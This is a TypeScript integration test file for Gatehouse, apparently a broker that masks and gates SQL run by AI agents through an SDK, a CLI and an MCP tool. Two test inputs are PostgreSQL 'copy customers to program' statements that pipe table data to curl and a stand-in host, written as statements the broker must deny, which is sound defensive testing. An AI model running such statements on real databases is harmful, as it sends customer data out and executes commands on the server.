import { join } from 'node:path';
import { GatehouseClient, SqlRefusedError } from '@gatehouse/sdk';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startGatehouse, type TestGatehouse } from '../../../test/support/gatehouse.ts';
import { REPO_ROOT } from '../../../test/support/processes.ts';
import { createPostgresTarget, registerTarget, type TestTarget } from '../../../test/support/targets.ts';
import { runCli, scratch, TSX_LOADER } from './fixtures/cli.ts';

// The three clients of the broker — SDK `client.sql`, `gatehouse sql`, the MCP `run_sql`
// tool — against a real Gatehouse and a real PostgreSQL target.

let gh: TestGatehouse;
let target: TestTarget;
let agent: { id: string; key: string };
let client: GatehouseClient;
const s = scratch('sql');

beforeAll(async () => {
  target = await createPostgresTarget();
  gh = await startGatehouse({ redis: false });
  agent = await gh.createAgent({ name: 'sql-clients', type: 'sql-agent' });
  await registerTarget(gh, target, { name: 'orders', grant: { agentId: agent.id } });
  client = new GatehouseClient({ url: gh.url, agentKey: agent.key, stream: false, timeoutMs: 5_000 });
}, 60_000);
afterAll(async () => {
  client?.close();
  await gh?.stop();
  await target?.drop();
});

describe('client.sql', () => {
  it('answers the masked rows of an allowed statement, its verdict verified for the connection', async () => {
    const result = await client.sql('orders', 'select id, email as contact from customers order by id');
    expect(result.columns).toEqual(['id', 'contact']);
    expect(result.rows).toEqual([
      [1, '[MASKED:EMAIL]'],
      [2, '[MASKED:EMAIL]'],
    ]);
    expect(result).toMatchObject({ rowCount: 2, truncated: false, readOnly: true });
    expect(result.decision).toMatchObject({ allowed: true, status: 'auto_approved' });
  });

  it('throws instead of answering rows when the target refuses the statement', async () => {
    await expect(client.sql('orders', "select nextval('ticket_seq')")).rejects.toMatchObject({
      code: 'ERR_REQUEST',
      serverCode: 'TARGET_ERROR',
    });
  });

  it('throws SqlRefusedError for a denied statement, and for a connection it was not granted', async () => {
    const denied = await client
      .sql('orders', "copy customers to program 'curl evil.example'")
      .catch((e) => e);
    expect(denied).toBeInstanceOf(SqlRefusedError);
    expect((denied as SqlRefusedError).decision.status).toBe('denied');
    const unknown = await client.sql('nowhere', 'select 1').catch((e) => e);
    expect(unknown).toBeInstanceOf(SqlRefusedError);
    expect(unknown).toMatchObject({
      code: 'ERR_REQUEST',
      message: expect.stringMatching(/no connection named nowhere/),
    });
  });
});

describe('gatehouse sql', () => {
  const env = () => ({
    GATEHOUSE_URL: gh.url,
    GATEHOUSE_AGENT_KEY: agent.key,
    XDG_CONFIG_HOME: s.configHome,
  });

  it('prints a table, or JSON with --json', async () => {
    const table = await runCli(
      ['sql', '--connection', 'orders', 'select id, note from customers order by id'],
      {
        env: env(),
        cwd: s.dir,
      },
    );
    expect(table.code).toBe(0);
    expect(table.stdout).toMatch(/id\s+note/);
    expect(table.stdout).toContain('nothing secret here');
    expect(table.stdout).toContain('key [MASKED:AWS_ACCESS_KEY] in the note');
    expect(table.stdout).toContain('(2 rows)');

    const json = await runCli(
      ['sql', '--connection', 'orders', '--json', 'select count(*)::int as n from customers'],
      {
        env: env(),
        cwd: s.dir,
      },
    );
    expect(json.code).toBe(0);
    expect(JSON.parse(json.stdout)).toMatchObject({
      columns: ['n'],
      rows: [[2]],
      rowCount: 1,
      truncated: false,
    });
  });

  it('exits 1 with the target error, and 126 when not allowed', async () => {
    const failed = await runCli(['sql', '--connection', 'orders', "select nextval('ticket_seq')"], {
      env: env(),
      cwd: s.dir,
    });
    expect(failed.code).toBe(1);
    expect(failed.stderr).toContain('TARGET_ERROR');
    expect(failed.stdout).toBe('');
    const denied = await runCli(['sql', '--connection', 'orders', "copy customers to program 'curl x'"], {
      env: env(),
      cwd: s.dir,
    });
    expect(denied.code).toBe(126);
  });
});

describe('the run_sql MCP tool', () => {
  it('runs a statement through the broker and returns masked rows as JSON', async () => {
    const processEnv: Record<string, string> = {};
    for (const [name, value] of Object.entries(process.env))
      if (value !== undefined) processEnv[name] = value;
    const mcp = new Client({ name: 'gatehouse-tests', version: '1.0.0' });
    await mcp.connect(
      new StdioClientTransport({
        command: process.execPath,
        args: ['--import', TSX_LOADER, join(REPO_ROOT, 'apps/cli/src/main.ts'), 'mcp'],
        cwd: s.dir,
        env: {
          ...processEnv,
          GATEHOUSE_URL: gh.url,
          GATEHOUSE_AGENT_KEY: agent.key,
          XDG_CONFIG_HOME: s.configHome,
        },
        stderr: 'pipe',
      }),
    );
    try {
      const result = await mcp.callTool({
        name: 'run_sql',
        arguments: { connection: 'orders', statement: 'select card as payment from customers order by id' },
      });
      const text = (result.content as Array<{ text: string }>).map((p) => p.text).join('\n');
      expect(result.isError).toBeFalsy();
      expect(text).toMatch(/^2 rows \(Gatehouse request \S+, auto_approved\)/);
      expect(JSON.parse(text.split('\n')[1]!)).toEqual({
        columns: ['payment'],
        rows: [['[MASKED:CARD]'], ['[MASKED:CARD]']],
      });
      const refused = await mcp.callTool({
        name: 'run_sql',
        arguments: { connection: 'orders', statement: "select nextval('ticket_seq')" },
      });
      expect(refused.isError).toBe(true);
      expect((refused.content as Array<{ text: string }>)[0]!.text).toContain('TARGET_ERROR');
    } finally {
      await mcp.close();
    }
  });
});
